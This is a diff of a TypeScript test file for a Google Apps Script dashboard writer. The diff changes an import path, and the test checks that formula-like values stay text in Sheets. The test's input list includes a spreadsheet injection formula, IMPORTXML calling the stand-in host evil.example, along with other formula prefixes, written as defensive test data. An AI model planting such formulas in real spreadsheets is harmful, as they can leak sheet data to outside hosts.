@@ -4,7 +4,7 @@
  */
 import { writeLayout } from '../../src/gas/writeLayout';
 import { buildDashboard, inputA1, kpiA1, sampleDashboard } from '../../src/layout/dashboard';
-import { createFakeAppsScript } from '../fake';
+import { createFakeAppsScript } from '../../src/preview/fake';
 
 test('formula-like figures stay text in Sheets', () => {
   const hostile = ['=IMPORTXML("http://evil.example/","//a")', '+1', '@SUM(1)', "'quoted"];
